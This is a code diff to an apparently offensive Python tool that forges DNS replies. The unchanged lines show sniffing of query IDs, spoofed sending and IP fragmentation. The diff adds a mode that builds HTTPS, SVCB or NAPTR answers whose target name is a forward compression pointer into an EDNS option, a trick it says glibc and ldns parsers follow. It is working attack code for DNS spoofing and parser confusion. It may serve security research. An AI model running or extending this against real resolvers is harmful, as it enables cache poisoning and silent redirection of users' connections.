@@ -21,10 +21,13 @@ import dns.flags
 import dns.message
 import dns.name
 import dns.rcode
+import dns.rdata
 import dns.rdataclass
 import dns.rdatatype
 import dns.rrset
 
+EDNS_OPT_LOCAL = 65001  # an option code for local and experimental use (RFC 6891)
+RDATA_NAME_TYPES = ("HTTPS", "SVCB", "NAPTR")
 IP_TRANSPARENT = 19
 IPV6_TRANSPARENT = 75
 ETH_P_ALL = 0x0003
@@ -117,6 +120,31 @@ def build_reply(args, qname, qtype, qid, query):
     return r.to_wire()
 
 
+def build_target_in_opt(args, qname, qtype, qid):
+    """Crafted bytes: the one --answer record (HTTPS, SVCB or NAPTR) with its
+    TargetName or replacement as a compression pointer into an EDNS option
+    that spells args.target_in_opt. The pointer goes forward, past the answer:
+    glibc's dn_expand and ldns follow it, so a client reads that name."""
+    rd = dns.rdata.from_text(dns.rdataclass.IN, qtype, args.answer[0])
+    plain = (rd.replacement if qtype == dns.rdatatype.NAPTR else rd.target).to_wire()
+    full = rd.to_wire()
+    if qtype == dns.rdatatype.NAPTR:
+        head, tail = full[:len(full) - len(plain)], b""  # the replacement comes last
+    else:
+        head, tail = full[:2], full[2 + len(plain):]  # priority, TargetName, SvcParams
+    question = qname.to_wire() + struct.pack("!HH", qtype, dns.rdataclass.IN)
+    rdlen = len(head) + 2 + len(tail)
+    answer_fixed = struct.pack("!HHHIH", 0xC00C, qtype, dns.rdataclass.IN, args.ttl, rdlen)
+    spelled = dns.name.from_text(args.target_in_opt).to_wire()
+    option = struct.pack("!HH", EDNS_OPT_LOCAL, len(spelled)) + spelled
+    opt = b"\x00" + struct.pack("!HHIH", dns.rdatatype.OPT, 1232, 0, len(option)) + option
+    # The option's name: after the header, the question, the answer, the OPT's
+    # fixed 11 bytes and the option's code and length.
+    spelled_at = 12 + len(question) + len(answer_fixed) + rdlen + 11 + 4
+    header = struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 1)
+    return header + question + answer_fixed + head + struct.pack("!H", 0xC000 | spelled_at) + tail + opt
+
+
 def send_fragments(args, src, dst, dport, wire):
     """The reply as IP fragments of args.fragment bytes of the UDP datagram each (the
     first one then holds the UDP header and at most a few DNS bytes). The UDP checksum
@@ -162,7 +190,12 @@ def main():
     ap.add_argument("--iface", default="eth0")
     ap.add_argument("--fragment", type=int, default=0, metavar="BYTES",
                     help="send as IP fragments carrying BYTES (a multiple of 8) of the UDP datagram each")
+    ap.add_argument("--target-in-opt", metavar="NAME",
+                    help="crafted: the one --answer (HTTPS, SVCB, NAPTR) names NAME through a pointer into EDNS option bytes")
     args = ap.parse_args()
+    if args.target_in_opt and (len(args.answer) != 1 or args.qtype.upper() not in RDATA_NAME_TYPES):
+        print("forge: --target-in-opt takes one --answer of type %s" % ", ".join(RDATA_NAME_TYPES), file=sys.stderr)
+        return 2
     if args.fragment and (args.fragment % 8 or not 8 <= args.fragment <= 1024):
         print("forge: --fragment must be a multiple of 8 in 8..1024", file=sys.stderr)
         return 2
@@ -191,7 +224,10 @@ def main():
             print("forge: need --id and --dport, or --sniff", file=sys.stderr)
             return 2
         qid, dport = args.id, args.dport
-    wire = build_reply(args, qname, qtype, qid, query)
+    if args.target_in_opt:
+        wire = build_target_in_opt(args, qname, qtype, qid)
+    else:
+        wire = build_reply(args, qname, qtype, qid, query)
 
     if args.fragment:
         send_fragments(args, src, dst, dport, wire)
